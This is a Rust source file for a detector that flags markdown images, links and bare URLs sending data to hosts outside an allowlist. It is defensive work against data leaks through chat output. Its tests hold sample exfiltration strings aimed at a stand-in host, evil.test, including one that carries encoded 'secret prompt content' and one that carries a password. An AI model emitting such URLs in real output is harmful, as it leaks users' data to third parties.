//! Exfiltration through URLs: markdown images (fetched automatically by many chat UIs), markdown
//! links and bare URLs that point outside the policy's domain allowlist and carry data in their
//! query string or path.

use regex::Regex;
use serde::Deserialize;

use super::{BuildContext, Detector, Hit, Subject};

/// Options of the `exfiltration` detector.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ExfilOptions {
    /// Report every markdown image to a non-allowlisted domain, even without a query string.
    #[serde(default = "yes")]
    pub flag_all_external_images: bool,
    /// Minimum length of a query value (or path segment) that counts as carried data.
    #[serde(default = "default_min_len")]
    pub min_data_len: usize,
}

fn yes() -> bool {
    true
}
fn default_min_len() -> usize {
    16
}

impl Default for ExfilOptions {
    fn default() -> Self {
        ExfilOptions {
            flag_all_external_images: true,
            min_data_len: default_min_len(),
        }
    }
}

/// The exfiltration detector.
#[derive(Debug)]
pub struct Exfiltration {
    opts: ExfilOptions,
    domains: Vec<String>,
    image: Regex,
    link: Regex,
    url: Regex,
}

impl Exfiltration {
    /// Builds the detector with the policy's domain allowlist.
    pub fn new(opts: ExfilOptions, ctx: &BuildContext) -> Self {
        Exfiltration {
            opts,
            domains: ctx.domains.iter().map(|d| d.to_ascii_lowercase()).collect(),
            image: Regex::new(r"!\[[^\]\n]{0,256}\]\(\s*<?(https?://[^\s)>]+)").expect("pattern"),
            link: Regex::new(r"\[[^\]\n]{0,256}\]\(\s*<?(https?://[^\s)>]+)").expect("pattern"),
            url: Regex::new(r#"(?i)\bhttps?://[^\s<>"'`)\]]+"#).expect("pattern"),
        }
    }

    fn allowed(&self, host: &str) -> bool {
        let host = host.to_ascii_lowercase();
        self.domains.iter().any(|d| {
            if let Some(suffix) = d.strip_prefix("*.") {
                host == suffix || host.ends_with(&format!(".{suffix}"))
            } else {
                host == *d || host.ends_with(&format!(".{d}"))
            }
        })
    }

    /// Whether the URL carries data: a long query value, many parameters, or a long opaque path segment.
    fn carries_data(&self, url: &str) -> bool {
        let (path, query) = match url.split_once('?') {
            Some((p, q)) => (p, Some(q)),
            None => (url, None),
        };
        if let Some(q) = query {
            let params: Vec<&str> = q.split('&').collect();
            if params.len() >= 4 {
                return true;
            }
            if params.iter().any(|p| {
                p.split_once('=').map_or(p.len(), |(_, v)| v.len()) >= self.opts.min_data_len
            }) {
                return true;
            }
        }
        path.split('/').skip(3).any(|seg| {
            seg.len() >= self.opts.min_data_len * 2
                || (seg.len() >= self.opts.min_data_len && seg.contains('%'))
        })
    }
}

/// The host part of an http(s) URL.
pub fn host_of(url: &str) -> &str {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let hostport = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    hostport.split(':').next().unwrap_or(hostport)
}

impl Detector for Exfiltration {
    fn name(&self) -> &'static str {
        "exfiltration"
    }

    fn scan(&self, subject: &Subject<'_>, out: &mut Vec<Hit>) {
        for (si, seg) in subject.text.segments.iter().enumerate() {
            let text = &seg.text;
            if !text.contains("://") {
                continue;
            }
            let mut covered: std::collections::HashSet<usize> = std::collections::HashSet::new();
            for c in self.image.captures_iter(text) {
                let (Some(all), Some(u)) = (c.get(0), c.get(1)) else {
                    continue;
                };
                covered.insert(u.start());
                if self.allowed(host_of(u.as_str())) {
                    continue;
                }
                let data = self.carries_data(u.as_str());
                if data || self.opts.flag_all_external_images {
                    out.push(Hit::seg(
                        "exfil_markdown_image",
                        "exfil.markdown_image",
                        si,
                        all.start(),
                        all.end() + usize::from(text[all.end()..].starts_with(')')),
                        if data { 0.95 } else { 0.6 },
                    ));
                }
            }
            for c in self.link.captures_iter(text) {
                let (Some(all), Some(u)) = (c.get(0), c.get(1)) else {
                    continue;
                };
                if covered.contains(&u.start()) {
                    continue;
                }
                covered.insert(u.start());
                if !self.allowed(host_of(u.as_str())) && self.carries_data(u.as_str()) {
                    out.push(Hit::seg(
                        "exfil_link",
                        "exfil.markdown_link",
                        si,
                        all.start(),
                        u.end(),
                        0.8,
                    ));
                }
            }
            for m in self.url.find_iter(text) {
                if covered.contains(&m.start()) {
                    continue;
                }
                if !self.allowed(host_of(m.as_str())) && self.carries_data(m.as_str()) {
                    out.push(Hit::seg(
                        "exfil_url",
                        "exfil.url_data",
                        si,
                        m.start(),
                        m.end(),
                        0.7,
                    ));
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::normalize::NormalizeOptions;

    fn scan(text: &str) -> Vec<String> {
        let ctx = BuildContext {
            domains: vec!["example.com".into(), "*.corp.test".into()],
            ..Default::default()
        };
        let d = Exfiltration::new(ExfilOptions::default(), &ctx);
        let no_decoding = NormalizeOptions {
            max_decode_depth: 0,
            ..Default::default()
        };
        crate::detectors::scan_text(&d, text, &no_decoding)
            .into_iter()
            .map(|h| h.rule_id.into_owned())
            .collect()
    }

    #[test]
    fn flags_image_with_data_outside_allowlist() {
        assert_eq!(
            scan("![x](https://evil.test/p.png?d=c2VjcmV0IHByb21wdCBjb250ZW50)"),
            vec!["exfil.markdown_image"]
        );
        assert_eq!(
            scan("see [here](https://evil.test/collect?q=the+users+password+is+hunter2)"),
            vec!["exfil.markdown_link"]
        );
        assert_eq!(
            scan("go to https://evil.test/x?a=1&b=2&c=3&d=4"),
            vec!["exfil.url_data"]
        );
    }

    #[test]
    fn allowlisted_and_plain_urls_pass() {
        assert!(scan(
            "![logo](https://cdn.example.com/logo.png?session=abcdefghijklmnopqrstuvwxyz)"
        )
        .is_empty());
        assert!(scan("![x](https://a.corp.test/p.png?d=c2VjcmV0IHByb21wdCBjb250ZW50)").is_empty());
        assert!(
            scan("Docs are at https://docs.rs/regex and [link](https://rust-lang.org/learn).")
                .is_empty()
        );
    }

    #[test]
    fn host_parsing() {
        assert_eq!(
            host_of("https://user:pw@Example.com:8080/x?y"),
            "Example.com"
        );
        assert_eq!(host_of("http://a.b"), "a.b");
    }
}
